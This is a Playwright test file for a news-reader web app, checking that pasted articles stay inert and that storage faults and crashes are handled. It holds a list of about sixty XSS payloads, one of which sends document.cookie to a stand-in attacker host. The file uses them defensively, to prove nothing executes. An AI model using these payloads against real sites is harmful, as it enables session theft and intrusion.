// Issue #7: pasted content is inert, storage faults are told and lose nothing, and a panic
// shows an error panel. (The Content Security Policy itself is checked in hosting.spec.ts;
// the fixtures fail any test that sees a CSP violation or a request to another origin.)
import type { Page } from '@playwright/test';
import { test, expect } from '../fixtures';
import { columnTitle, readManifest } from '../corpus';

const titles = readManifest().map(columnTitle);
const STORE_KEY = 'parallax.reader-articles';

/** Each payload, if it ever ran, would call `__pwn`, open a dialog or load /pwned. */
const PAYLOADS: string[] = [
  '<script>__pwn(1)</script>',
  '<SCRIPT SRC=/pwned.js></SCRIPT>',
  '<script src="data:text/javascript,__pwn(2)"></script>',
  '<img src=x onerror="__pwn(3)">',
  '<img src="/pwned.png" onload=__pwn(4)>',
  '<IMG SRC="javascript:__pwn(5);">',
  '<svg onload=__pwn(6)>',
  '<svg><script>__pwn(7)</script></svg>',
  '<svg><animate onbegin=__pwn(8) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:__pwn(9)"><text x=20 y=20>XSS</text></a></svg>',
  '<iframe src="javascript:__pwn(10)"></iframe>',
  '<iframe srcdoc="<script>parent.__pwn(11)</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.__pwn(12)&gt;"></iframe>',
  '<object data="javascript:__pwn(13)"></object>',
  '<embed src="javascript:__pwn(14)">',
  '<a href="javascript:__pwn(15)">click me</a>',
  '<a href="  JaVaScRiPt:__pwn(16)">spaced</a>',
  '<a href="data:text/html,<script>__pwn(17)</script>">data link</a>',
  '<body onload=__pwn(18)>',
  '<div onmouseover="__pwn(19)">hover</div>',
  '<input autofocus onfocus=__pwn(20)>',
  '<details open ontoggle=__pwn(21)>',
  '<video><source onerror="__pwn(22)"></video>',
  '<audio src=x onerror=__pwn(23)>',
  '<marquee onstart=__pwn(24)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=__pwn(25)>',
  '<form action="javascript:__pwn(26)"><button>go</button></form>',
  '<button formaction=javascript:__pwn(27)>x</button>',
  '<meta http-equiv="refresh" content="0;url=javascript:__pwn(28)">',
  '<link rel=stylesheet href=/pwned.css>',
  '<style>@import "/pwned.css";</style>',
  '<style>body{background:url("/pwned.png")}</style>',
  '<base href="javascript:__pwn(29)//">',
  '"><script>__pwn(30)</script>',
  "'><img src=x onerror=__pwn(31)>",
  '</textarea><script>__pwn(32)</script>',
  '</title><script>__pwn(33)</script>',
  '<!--<img src="--><img src=x onerror=__pwn(34)//">',
  '<scr<script>ipt>__pwn(35)</scr</script>ipt>',
  '<img """><script>__pwn(36)</script>">',
  '<img src=x:x onerror=&#95;&#95;pwn(37)>',
  '<img src=x onerror=\\u005f_pwn(38)>',
  '<noscript><p title="</noscript><img src=x onerror=__pwn(39)>">',
  '<template><script>__pwn(40)</script></template>',
  '<x onclick=__pwn(41)>click</x>',
  '{{constructor.constructor("__pwn(42)")()}}',
  '${__pwn(43)}',
  'javascript:__pwn(44)',
  '<a href=# onclick=alert(45)>alert</a>',
  '<img src=x onerror=confirm(46)>',
  '<img src=x onerror=prompt(47)>',
  '<svg/onload=alert(48)>',
  '<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd24oNDkpPC9zY3JpcHQ+"></object>',
  '<portal src=/pwned></portal>',
  '<img srcset="/pwned.png 1x">',
  '<isindex type=image src=1 onerror=__pwn(50)>',
  '<a href="vbscript:__pwn(51)">vb</a>',
  '<<script>script>__pwn(52)<</script>/script>',
  '\u202e<script>__pwn(53)</script>',
  '<img src=x onerror="fetch(\'https://attacker.example/steal?\'+document.cookie)">',
];

/** Installs the traps: anything a payload runs ends up in `window.__pwned`, and any dialog
 * it opens in the returned list. */
async function trap(page: Page): Promise<string[]> {
  const dialogs: string[] = [];
  await page.addInitScript(() => {
    const w = window as unknown as { __pwned: string[]; __pwn: (n: number) => void };
    w.__pwned = [];
    w.__pwn = (n: number) => w.__pwned.push(`payload ${n} ran`);
  });
  page.on('dialog', async (dialog) => {
    dialogs.push(`${dialog.type()}: ${dialog.message()}`);
    await dialog.dismiss();
  });
  return dialogs;
}

/** The reader-articles document for `articles` (the format of the export file). */
function documentOf(articles: { id: string; text: string; outlet: string; url?: string }[]): string {
  return JSON.stringify({
    format: 'parallax-reader-articles',
    version: 1,
    articles: articles.map((a) => ({
      id: a.id,
      text: a.text,
      meta: { outlet: a.outlet, url: a.url ?? null, date: null },
    })),
  });
}

test.describe('pasted content is inert', () => {
  test(`${PAYLOADS.length} injection payloads as text, outlet names and links show as text and never run`, async ({
    app,
  }, testInfo) => {
    test.setTimeout(90_000);
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(50);
    const page = app.page;
    const dialogs = await trap(page);
    const requests: string[] = [];
    page.on('request', (r) => {
      if (/pwned|attacker/.test(r.url())) requests.push(r.url());
    });
    await app.goto();
    const baseline = await page.evaluate(() =>
      document.querySelectorAll('.px-app :is(script, iframe, object, embed, img, video, audio, form, portal, base, meta, link, style, math, marquee)').length,
    );

    // One article carries every payload as a paragraph; each payload is also an outlet name,
    // with a link that is a web address carrying markup.
    const articles = PAYLOADS.map((p, i) => ({
      id: `own-${i + 1}`,
      text: i === 0 ? `Payloads named Macron\n\n${PAYLOADS.join('\n\n')}` : `Macron said: ${p}\n\n${p}`,
      outlet: p,
      url: `https://example.org/a?q=${encodeURIComponent(p)}`,
    }));
    await page.getByRole('button', { name: /^Your articles/ }).click();
    const dialog = page.getByRole('dialog', { name: 'Your articles' });
    // A file whose link is not a web address is refused whole.
    await dialog.locator('input[type=file]:not([multiple])').setInputFiles({
      name: 'bad-link.json',
      mimeType: 'application/json',
      buffer: Buffer.from(documentOf([{ id: 'own-1', text: 'Text.', outlet: 'X', url: 'javascript:__pwn(0)' }])),
    });
    await expect(dialog.getByTestId('reader-status')).toContainText('not an http(s) address');
    await expect(dialog.getByTestId('own-article')).toHaveCount(0);
    await dialog.locator('input[type=file]:not([multiple])').setInputFiles({
      name: 'payloads.json',
      mimeType: 'application/json',
      buffer: Buffer.from(documentOf(articles)),
    });
    await expect(dialog.getByTestId('reader-status')).toContainText(`${PAYLOADS.length} articles added`);
    // The form, too: a payload pasted as text and outlet, with a javascript: link refused.
    await dialog.getByLabel('Article text').fill(PAYLOADS.slice(0, 10).join('\n\n'));
    await dialog.getByLabel('Outlet').fill('<b onmouseover=__pwn(99)>Form outlet</b>');
    await dialog.getByLabel(/^Link to the original/).fill('javascript:__pwn(100)');
    await dialog.getByRole('button', { name: 'Add article' }).click();
    await expect(dialog.getByTestId('reader-status')).toContainText('http');
    await dialog.getByLabel(/^Link to the original/).fill('');
    await dialog.getByRole('button', { name: 'Add article' }).click();
    await expect(dialog.getByTestId('reader-status')).toContainText('Added the pasted article');
    await dialog.getByRole('button', { name: 'Close' }).click();

    const countElements = () =>
      page.evaluate(() =>
        document.querySelectorAll(
          '.px-app :is(script, iframe, object, embed, img, video, audio, form, portal, base, meta, link, style, math, marquee)',
        ).length,
      );
    /** Nothing ran and nothing entered the page; checked before every navigation. */
    const assertInert = async () => {
      expect(await countElements(), 'no element from a payload entered the page').toBe(baseline);
      const protocols = await page.evaluate(() =>
        [...document.querySelectorAll('.px-app a[href]')].map((a) => (a as HTMLAnchorElement).protocol),
      );
      for (const protocol of protocols) expect(['http:', 'https:']).toContain(protocol);
      expect(await page.evaluate(() => (window as unknown as { __pwned: string[] }).__pwned)).toEqual([]);
      expect(requests).toEqual([]);
      expect(dialogs).toEqual([]);
    };

    // Every view renders the payloads (outlet names everywhere, sentences in Claims).
    for (const view of ['Compare', 'Remarks', 'Claims', 'Actors', 'Quotes']) {
      await page.getByRole('tab', { name: new RegExp(`^${view}`) }).click();
      await expect(page.getByRole('tab', { name: new RegExp(`^${view}`) })).toHaveAttribute('aria-selected', 'true');
      await assertInert();
    }

    // The article that carries every payload in its text, alone on screen.
    await app.goto('./?outlets=own-1');
    const all = page.getByRole('region', { name: PAYLOADS[0], exact: true });
    await expect(all).toBeVisible();
    const text = await all.evaluate((el) => el.textContent ?? '');
    for (const p of PAYLOADS) expect(text, `payload shown as text: ${p}`).toContain(p.trim());
    await assertInert();

    // Payloads as outlet names: column landmarks named by them, hovered and focused.
    await app.goto('./?outlets=own-4,own-61');
    const named = page.getByRole('region', { name: PAYLOADS[3], exact: true });
    await expect(named).toBeVisible();
    await expect(page.getByRole('region', { name: '<b onmouseover=__pwn(99)>Form outlet</b>', exact: true })).toBeVisible();
    await named.hover();
    await named.locator('mark').first().focus();
    await page.screenshot({ path: testInfo.outputPath('payloads.png') });
    await assertInert();

    // Still inert after a reload, from storage.
    await page.reload();
    await expect(page.getByRole('region', { name: PAYLOADS[3], exact: true })).toBeVisible();
    await assertInert();
  });
});

test.describe('storage faults', () => {
  const ARTICLE = 'Storage test headline\n\nEmmanuel Macron said that nothing should be ruled out.';

  async function addOne(page: Page, outlet: string) {
    await page.getByRole('button', { name: /^Your articles/ }).click();
    const dialog = page.getByRole('dialog', { name: 'Your articles' });
    await dialog.getByLabel('Article text').fill(ARTICLE);
    await dialog.getByLabel('Outlet').fill(outlet);
    await dialog.getByRole('button', { name: 'Add article' }).click();
    await expect(dialog.getByTestId('reader-status')).toContainText('Added the pasted article');
    return dialog;
  }

  test('full storage: the article is added for this visit, the reader is told, and what was kept stays', async ({
    app,
  }) => {
    const page = app.page;
    const kept = documentOf([{ id: 'own-1', text: ARTICLE, outlet: 'Kept before' }]);
    await page.addInitScript(
      ([key, doc]) => {
        if (!sessionStorage.getItem('seeded')) {
          localStorage.setItem(key, doc);
          sessionStorage.setItem('seeded', '1');
        }
        Storage.prototype.setItem = function () {
          throw new DOMException('The quota has been exceeded.', 'QuotaExceededError');
        };
      },
      [STORE_KEY, kept],
    );
    await app.goto();
    await expect(app.column('Kept before')).toBeVisible();
    const dialog = await addOne(page, 'Added while full');
    await expect(dialog.getByTestId('reader-status')).toContainText('storage for this page is full');
    await dialog.getByRole('button', { name: 'Close' }).click();
    await expect(app.column('Added while full')).toBeVisible();
    await expect(page.getByTestId('notice').filter({ hasText: 'full' })).toBeVisible();
    expect(await page.evaluate((k) => localStorage.getItem(k), STORE_KEY)).toBe(kept);
  });

  test('disabled storage (private mode): a plain notice, and the app works for the visit', async ({ app }) => {
    const page = app.page;
    await page.addInitScript(() => {
      Object.defineProperty(window, 'localStorage', {
        get() {
          throw new DOMException('The operation is insecure.', 'SecurityError');
        },
      });
    });
    await app.goto();
    await expect(page.getByTestId('notice').filter({ hasText: 'does not let Parallax keep data' })).toBeVisible();
    for (const title of titles) await expect(app.column(title)).toBeVisible();
    const dialog = await addOne(page, 'Private outlet');
    await dialog.getByRole('button', { name: 'Close' }).click();
    await expect(app.column('Private outlet')).toBeVisible();
  });

  test('corrupt storage: told, never overwritten, and can be downloaded or cleared', async ({ app }) => {
    const page = app.page;
    const garbage = '{"format":"parallax-reader-articles","version":1,"articles":[{"id":';
    await page.addInitScript(
      ([key, junk]) => {
        if (!sessionStorage.getItem('seeded')) {
          localStorage.setItem(key, junk);
          sessionStorage.setItem('seeded', '1');
        }
      },
      [STORE_KEY, garbage],
    );
    await app.goto();
    await expect(page.getByTestId('notice').filter({ hasText: 'could not be read' })).toBeVisible();
    for (const title of titles) await expect(app.column(title)).toBeVisible();
    const dialog = await addOne(page, 'New while corrupt');
    await expect(dialog.getByTestId('reader-status')).toContainText('not written over');
    expect(await page.evaluate((k) => localStorage.getItem(k), STORE_KEY)).toBe(garbage);

    const [download] = await Promise.all([
      page.waitForEvent('download'),
      dialog.getByRole('button', { name: 'Download the unreadable data' }).click(),
    ]);
    const { readFileSync } = await import('node:fs');
    expect(readFileSync((await download.path())!, 'utf8')).toBe(garbage);

    await dialog.getByRole('button', { name: 'Clear it' }).click();
    await expect(dialog.getByTestId('reader-status')).toContainText('cleared');
    const stored = await page.evaluate((k) => localStorage.getItem(k), STORE_KEY);
    expect(JSON.parse(stored!).articles[0].meta.outlet).toBe('New while corrupt');
  });
});

test('a panic shows an error panel with the message and a working reload button', async ({ app, problems }) => {
  problems.allow(/panicked|self-test|unreachable|RuntimeError/);
  await app.goto();
  const page = app.page;
  await page.evaluate(() => {
    const bindings = (window as unknown as { wasmBindings: { parallax_self_test_panic: () => void } }).wasmBindings;
    try {
      bindings.parallax_self_test_panic();
    } catch {
      // The panic surfaces as a wasm trap once the hook has run.
    }
  });
  const panel = page.getByRole('alert').filter({ hasText: 'Parallax stopped' });
  await expect(panel).toBeVisible();
  await expect(panel).toContainText('self-test: a deliberate panic');
  await panel.getByRole('button', { name: 'Reload' }).click();
  await expect(app.column(titles[0])).toBeVisible();
  await expect(page.getByRole('alert').filter({ hasText: 'Parallax stopped' })).toHaveCount(0);
});
